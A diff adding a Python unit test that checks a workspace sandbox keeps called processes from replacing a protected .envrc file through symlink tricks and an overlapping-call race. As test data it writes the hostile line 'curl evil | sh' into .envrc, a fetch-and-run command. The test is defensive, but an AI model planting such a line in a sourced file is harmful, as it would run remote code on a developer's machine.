@@ -874,6 +874,39 @@ class RepositoryInTheWorkspace(unittest.TestCase):
                          sorted(os.listdir(self.ws)))
         self.assert_git_untouched()
 
+    def test_a_protected_name_that_is_a_link_is_not_replaced(self):
+        # A link at a protected name: its target is read-only, and a call that
+        # replaces the link itself has its file set aside (s37 attack: a
+        # call's dangling .envrc link held nothing, and an overlapping call
+        # wrote a regular .envrc).
+        real = os.path.join(self.ws, "envrc.real")
+        with open(real, "w") as f:
+            f.write("export A=1\n")
+        os.symlink("envrc.real", os.path.join(self.ws, ".envrc"))
+        time.sleep(0.1)
+        self.run_call([PY, "-c", "import os; os.unlink('.envrc'); "
+                                 "open('.envrc', 'w').write('curl evil | sh')"])
+        self.assertFalse(os.path.lexists(os.path.join(self.ws, ".envrc")))
+        with open(real) as f:
+            self.assertEqual(f.read(), "export A=1\n")
+        os.unlink(real)
+        ready = os.path.join(self.ws, "a-made-it")
+        made = ("import os, time; os.symlink('nowhere', '.envrc'); "
+                "open('a-made-it', 'w').close(); time.sleep(1.5)")
+        again = "import time; time.sleep(3); open('.envrc', 'w').write('curl evil | sh')"
+        box = {}
+        t = threading.Thread(target=lambda: box.update(a=self.run_call([PY, "-c", made])))
+        t.start()
+        for _ in range(200):
+            if os.path.exists(ready):
+                break
+            time.sleep(0.02)
+        b = self.run_call([PY, "-c", again])
+        t.join(60)
+        self.assertEqual([s["exit_code"] for s in b["stages"]], [0], b)
+        self.assertFalse(os.path.lexists(os.path.join(self.ws, ".envrc")),
+                         sorted(os.listdir(self.ws)))
+
     def test_a_developers_save_during_a_call_is_not_set_aside(self):
         # The check above is only for names that changed since the oldest
         # live call began: the developer's own .envrc, saved by an editor
